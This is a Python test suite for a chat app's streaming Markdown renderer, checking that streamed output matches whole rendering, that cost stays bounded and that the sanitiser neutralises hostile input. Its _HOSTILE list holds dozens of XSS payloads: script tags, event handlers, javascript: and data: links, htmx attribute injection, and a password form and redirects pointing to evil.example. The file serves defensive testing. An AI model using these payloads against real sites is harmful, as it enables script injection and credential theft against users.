"""Markdown: streamed and whole come to the same, hostile text stays text, the cost is bounded."""

from __future__ import annotations

import re
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.web.markdown import Change, Markdown, MarkdownStream, code_run
from app.web.markdown.code import Highlighter
from app.web.markdown.parse import Parser
from app.web.markdown.render import Fragments
from app.web.markdown.sanitise import Sanitiser

_PREFIX = "m-1-"
_DEMO = Path(__file__).parents[2] / "app" / "models" / "demo" / "answers" / "markdown.md"

# Lines that begin, continue, end or only look like every kind of block.
_LINES = st.sampled_from(
    """\
# heading|   ### heading|\\# none|#none|text *one* `two`|text|  text| text  |text\\|**open|`open
- item|-|+|* item|  - nested|   more|    code|\tcode|1. one|2. two|7) seven|- [x] done|- [ ] not
> quote|>| > quote|> - list|> ```|- > both|- # heading|- ```py|```|```py|~~~|````|   ```|  ```|x = 1
| a | b |{|---|---|{| 1 | 2 |{|-{-|-{===|---|***|- - -|  ===|<div>|</div>|<!-- note|-->|<pre>|</pre>
<?|?>|<b>|<script>|</script>|<a|![image](http://a.b/c)|https://a.b/c|&#13;|&amp;|    ||||||\
""".replace("|", "\n")
    .replace("{", "|")
    .split("\n")
)
_TEXTS = st.one_of(
    st.lists(_LINES, max_size=16).map("\n".join),
    st.text(st.sampled_from("a \n\t`~#-*+_>|[]()!<&1.=\\:\r"), max_size=60),
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")),
)
_CUTS = st.lists(st.integers(1, 30), max_size=20)


def _pieces(text: str, cuts: list[int]) -> list[str]:
    pieces, at = [], 0
    for cut in cuts:
        pieces.append(text[at : at + cut])
        at += cut
    return [*pieces, text[at:]]


_COPY_BUTTON = '<button type="button" class="copy" aria-label="Copy code"></button>'
_CODE_END = f"</code></pre>{_COPY_BUTTON}</div>"


class _Page:
    """What a page shows that applies every change."""

    def __init__(self, stream: MarkdownStream) -> None:
        self._stream = stream
        self._blocks: dict[int, str] = {}
        self.characters_sent = 0

    def append(self, piece: str) -> list[Change]:
        changes = self._stream.append(piece)
        for change in changes:
            self.characters_sent += len(change.html)
            if change.run is None:
                self._blocks[change.block] = change.html
            else:
                self._replace_run(change)
        return changes

    def _replace_run(self, change: Change) -> None:
        """Only the last run of the last block may change, or a new one come after it."""
        assert change.block == max(self._blocks)
        opening = code_run(_PREFIX, change._replace(html="")).removesuffix("</span>")
        head = self._blocks[change.block].partition(opening)[0].removesuffix(_CODE_END)
        self._blocks[change.block] = f"{head}{code_run(_PREFIX, change)}{_CODE_END}"

    @property
    def blocks(self) -> dict[int, str]:
        """The blocks without what colours code: that may come later, and goes in runs."""
        return {number: _plain(html) for number, html in sorted(self._blocks.items()) if html}


def _plain(html: str) -> str:
    boxed = re.sub(r'<span class="box[^>]*></span>', "[]", html)
    # A code block's last line has an end once something follows it.
    return re.sub(r"</?span[^>]*>", "", boxed).replace("\n</code>", "</code>")


def _document(text: str) -> dict[int, str]:
    return {block.number: _plain(block.html) for block in Markdown().document(text, _PREFIX)}


class TestStreamed:
    @given(text=_TEXTS, cuts=_CUTS)
    @example(text="```py\n```", cuts=[4])
    @example(text="```\n```\n<?", cuts=[])
    @example(text="text\n2. a\n|-\n# h\n# h", cuts=[])
    @example(text="1. a\n\n2\n\n2. b", cuts=[7])
    @example(text="- a\n\n-\n\n**b**", cuts=[6, 3])
    @example(text="a\r\n\r\nb\r\rc", cuts=[2, 1, 1, 4])
    def test_any_text_cut_anywhere_is_shown_as_the_text_so_far_is_rendered_whole(
        self, text: str, cuts: list[int]
    ) -> None:
        """But for references and footnotes, which reach across blocks."""
        text = text.replace("[", "(") if "]:" in text or "[^" in text else text
        page = _Page(Markdown().stream(_PREFIX))
        for piece in _pieces(text, cuts):
            page.append(piece)
        assert page.blocks == _document(text)

    @given(text=_TEXTS, cuts=_CUTS)
    def test_the_numbers_of_blocks_depend_on_the_text_alone(
        self, text: str, cuts: list[int]
    ) -> None:
        whole, cut = _Page(Markdown().stream(_PREFIX)), _Page(Markdown().stream(_PREFIX))
        whole.append(text)
        for piece in _pieces(text, cuts):
            cut.append(piece)
        assert cut.blocks.keys() == whole.blocks.keys()

    @given(text=_TEXTS, cuts=_CUTS)
    def test_a_stream_goes_on_from_a_text_that_the_page_has(
        self, text: str, cuts: list[int]
    ) -> None:
        first, *rest = _pieces(text, cuts)
        page = _Page(Markdown().stream(_PREFIX))
        page.append(first)
        again = Markdown().stream(_PREFIX)
        again.skip(first)
        page._stream = again
        for piece in rest:
            page.append(piece)
        straight = _Page(Markdown().stream(_PREFIX))
        for piece in [first, *rest]:
            straight.append(piece)
        assert page.blocks == straight.blocks

    @given(cuts=st.lists(st.integers(1, 400), max_size=30))
    def test_a_finished_block_is_never_touched_again(self, cuts: list[int]) -> None:
        page = _Page(Markdown().stream(_PREFIX))
        last = 0
        for piece in _pieces(_DEMO.read_text(), cuts):
            for change in page.append(piece):
                assert change.block >= last
                last = change.block

    def test_what_reaches_across_blocks_is_text_until_the_whole_is_rendered(self) -> None:
        text = "See [here][a] and[^n].\n\nMore.\n\n[a]: https://example.org/\n[^n]: A *note*.\n"
        page = _Page(Markdown().stream(_PREFIX))
        page.append(text)
        assert page.blocks[0] == "<p>See [here][a] and[^n].</p>"
        whole = _document(text)
        assert 'href="https://example.org/"' in whole[0]
        assert f'href="#{_PREFIX}fn-n" id="{_PREFIX}fnref-n"' in whole[0]
        assert whole[1] == page.blocks[1] == "<p>More.</p>"
        assert f'<li id="{_PREFIX}fn-n">' in whole[max(whole)]

    def test_code_is_coloured_line_by_line_while_it_is_open_and_whole_when_closed(self) -> None:
        page = Markdown().stream(_PREFIX)
        page.append("```python\n")
        (open_line,) = page.append("return")
        assert (open_line.run, open_line.html) == (0, "return")
        (whole_line,) = page.append(" 1\n")
        assert whole_line.html.startswith('<span class="t-k">return </span>')
        (closed,) = page.append("```\n")
        assert closed.run is None
        assert closed.html.startswith(
            '<div class="code"><pre tabindex="0"><code><span class="t-k">return </span>'
        )

    def test_every_block_of_code_has_a_button_that_is_no_part_of_its_text(self) -> None:
        page = _Page(Markdown().stream(_PREFIX))
        page.append("```\nx </pre> <button>\n")
        shown = page.blocks[0]
        assert shown.endswith(_CODE_END)
        page.append("```\n\n* ```\n  y\n  ```\n")
        for blocks in (
            page.blocks,
            _document("```\nx </pre> <button>\n```\n\n* ```\n  y\n  ```\n"),
        ):
            html = "".join(blocks.values())
            assert html.count("<button") == html.count(_COPY_BUTTON) == html.count("<pre") == 2
            assert "x &lt;/pre&gt; &lt;button&gt;" in html


class _Counting(Fragments):
    """Counts the characters that are parsed and rendered."""

    def __init__(self) -> None:
        super().__init__(Parser(), Highlighter(), _PREFIX)
        self.characters = 0

    def starts(self, source: str) -> list[int]:
        self.characters += len(source)
        return super().starts(source)

    def part(self, source: str, *, growing: bool) -> str:
        self.characters += len(source)
        return super().part(source, growing=growing)

    def code(self, language: str, code: str) -> str:
        self.characters += len(code)
        return super().code(language, code)


_LONG = {
    "paragraphs": "A sentence of some words, and one more.\n\n",
    "sections": "# Heading\nA paragraph under it.\n- an item\n- another\n\n```py\nx = 1\n```\n",
    "one list": "- an item of a list that does not end\n",
    "one loose list": "- an item of a list that does not end\n\n",
    "one table": "| a cell | another |\n",
    "one quotation": "> a line of a quotation that does not end\n",
    "one paragraph": "A line of a paragraph that does not end\n",
    "one line": "words without any end of line, ",
    "comment": "A paragraph in a comment.\n\n",
    "code": "    return [value for value in values]\n",
    "code without an end of line": "values, values, ",
}
_BEFORE = {
    "one table": "| a | b |\n|---|---|\n",
    "comment": "<!--\n\n",
    "code": "```python\n",
    "code without an end of line": "```\n",
}


class TestCost:
    @pytest.mark.parametrize("kind", _LONG)
    def test_a_piece_costs_no_more_late_in_a_long_answer_than_early(self, kind: str) -> None:
        """Characters parsed and rendered per piece, between 10,000 and 20,000 and at the end."""
        counting = _Counting()
        stream = MarkdownStream(counting, _PREFIX)
        stream.append(_BEFORE.get(kind, ""))
        text = _LONG[kind] * (60_000 // len(_LONG[kind]))
        counted = []
        for at in range(0, 60_000, 20):
            stream.append(text[at : at + 20])
            counted.append(counting.characters)
        early, late = counted[1000] - counted[500], counted[-1] - counted[-501]
        assert early > 0
        assert late <= 1.5 * early

    def test_what_is_sent_for_a_usual_answer_is_a_small_multiple_of_it(self) -> None:
        text = _DEMO.read_text()
        page = _Page(Markdown().stream(_PREFIX))
        for at in range(0, len(text), 4):
            page.append(text[at : at + 4])
        assert page.characters_sent < 100 * len(text)

    def test_nesting_without_end_is_shown_as_text(self) -> None:
        text = ">" * 20_000 + " deep"
        page = _Page(Markdown().stream(_PREFIX))
        page.append(text)
        assert page.blocks == _document(text)
        assert page.blocks[0].startswith('<p class="raw">&gt;&gt;')


class _Elements(HTMLParser):
    """Every element and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, "", ""))
        self.found += [(tag, name, value or "") for name, value in attributes]


_ELEMENTS = frozenset({
    "a", "blockquote", "br", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "section", "span", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr",
    "ul",
})  # fmt: skip
_HARMLESS = {"align", "aria-label", "class", "rel", "role", "start", "tabindex", "target", "title"}


def _assert_harmless(html: str) -> None:
    for tag, name, value in _Elements(html.replace(f"</pre>{_COPY_BUTTON}", "</pre>")).found:
        assert tag in _ELEMENTS, tag
        if name == "href":
            assert re.match(rf"https?:|mailto:|#{_PREFIX}fn", value, re.IGNORECASE), value
        elif name == "id":
            assert value.startswith(_PREFIX), value
        elif name:
            assert name in _HARMLESS, name
        if name == "target":
            assert value == "_blank"
        if name == "rel":
            assert value == "noopener noreferrer nofollow"


_HOSTILE = [
    "<script>steal()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=steal()>",
    "<svg/onload=steal()><animate onbegin=steal() attributeName=x>",
    "<math><mi xlink:href='javascript:steal()'>x</mi></math>",
    "<a href='java&#9;script:steal()' hx-get=/chat hx-trigger=load>x</a>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<hx-partial hx-target='body' hx-swap='outerHTML'>gone</hx-partial>",
    "<hx-upsert hx-target='#messages'><article id='m-1'></article></hx-upsert>",
    "<div hx-post='/chat/x/stop' hx-trigger='load' id='composer'>x</div>",
    "<style>body{display:none}</style><p style='position:fixed'>x",
    "<form action=//evil.example><input name=password autofocus onfocus=steal()>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "</div></article></section><script>steal()</script>",
    "<!--><script>steal()</script>-->",
    "<![CDATA[<script>steal()</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "[x](javascript:steal())",
    "[x](JaVaScRiPt:steal())",
    "[x](<java\nscript:steal()>)",
    "[x](&#106;avascript:steal())",
    "[x](javascript&colon;steal())",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:steal())",
    "[x](file:///etc/passwd)",
    "[x](/chat/messages/1/stop) [y](//evil.example) [z](?x) [w](#messages)",
    "[x](https://a.example/\"onmouseover='steal()')",
    '[x](https://a.example "\\" onmouseover=\\"steal()")',
    "<javascript:steal()> <https://a.example/<script>>",
    "![x](javascript:steal()) ![x](https://a.example/pixel.png)",
    '![" onerror="steal()](https://a.example/"onerror="steal())',
    "[![x](https://a.example/pixel.png)](javascript:steal())",
    "[x][y]\n\n[y]: javascript:steal() \"'onclick='steal()\"",
    "x[^1]\n\n[^1]: <script>steal()</script> [y](javascript:steal())",
    'x[^"onclick="steal()]\n\n[^"onclick="steal()]: y',
    "x[^../composer]\n\n[^../composer]: y",
    '```"><script>steal()</script>\n</code></pre><script>steal()</script>\n```',
    "```html onload=steal()\n<script>steal()</script>\n```",
    "~~~python' onclick='steal()\nx = '</span><script>steal()</script>'\n~~~",
    "| <script>steal()</script> | [x](javascript:steal()) |\n|---|---|\n| <img onerror=x> | y |",
    "- [x] <input onfocus=steal() autofocus>\n- [ ] <script>steal()</script>",
    "# <script>steal()</script>\n\n> <hx-partial>\n\n    <script>steal()</script>",
    "`<script>steal()</script>` **<script>steal()</script>**",
    "&lt;script&gt;steal()&lt;/script&gt; &#60;script&#62;",
    "\x00<\x00script>steal()</script> <scr\u0000ipt>",
    "data: x\r\n\r\nevent: end\rdata: y&#13;&#10;&#13;&#10;event: end",
]


class TestHostile:
    @pytest.mark.parametrize("text", _HOSTILE)
    @pytest.mark.parametrize("size", [1, 7, 10_000])
    def test_nothing_acts_whole_or_in_pieces(self, text: str, size: int) -> None:
        markdown = Markdown()
        for block in markdown.document(text, _PREFIX):
            _assert_harmless(block.html)
            assert "\r" not in block.html
        stream = markdown.stream(_PREFIX)
        for at in range(0, len(text), size):
            for change in stream.append(text[at : at + size]):
                _assert_harmless(change.html)
                assert "\r" not in change.html

    @given(text=st.lists(st.sampled_from([*_HOSTILE, "\n", "\n\n", "> ", "- "])).map("".join))
    def test_nothing_acts_in_any_mixture(self, text: str) -> None:
        for block in Markdown().document(text, _PREFIX):
            _assert_harmless(block.html)

    @pytest.mark.parametrize("html", [text for text in _HOSTILE if text.startswith("<")])
    def test_the_last_step_holds_alone_where_the_parser_would_let_html_pass(
        self, html: str
    ) -> None:
        _assert_harmless(Sanitiser(_PREFIX).clean(html))

    def test_links_open_safely_and_images_are_links(self) -> None:
        (block,) = Markdown().document("[a](https://b.example/) ![c](https://d.example/)", _PREFIX)
        safe = 'rel="noopener noreferrer nofollow"'
        assert block.html == (
            f'<p><a target="_blank" href="https://b.example/" {safe}>a</a> '
            f'<a target="_blank" href="https://d.example/" {safe}>c</a></p>'
        )


class TestCode:
    @given(
        code=st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\r")),
        language=st.sampled_from(["python", "js", "html", "bash", "json", "diff", "none", ""]),
    )
    def test_colours_never_change_what_is_shown(self, code: str, language: str) -> None:
        html = re.sub(r'<span class="t-\w">|</span>', "", Highlighter().html(language, code))
        assert html == escape(code)

    def test_an_unknown_language_is_plain(self) -> None:
        assert Highlighter().html("klingon", "if <x>") == "if &lt;x&gt;"

    def test_every_class_has_its_colour_in_the_style_sheet(self) -> None:
        css = (Path(__file__).parents[2] / "app" / "static" / "app.css").read_text()
        used = set(re.findall(r"^\.t-(\w) \{", css, re.MULTILINE))
        shown = {
            kind
            for language, code in [
                ("python", "# c\n@d\ndef f(): return 'x' + 1"),
                ("diff", "-a\n+b\n"),
            ]
            for kind in re.findall(r'class="t-(\w)"', Highlighter().html(language, code))
        }
        assert shown <= used
        assert shown >= set("ckfysndi") - {"y"}
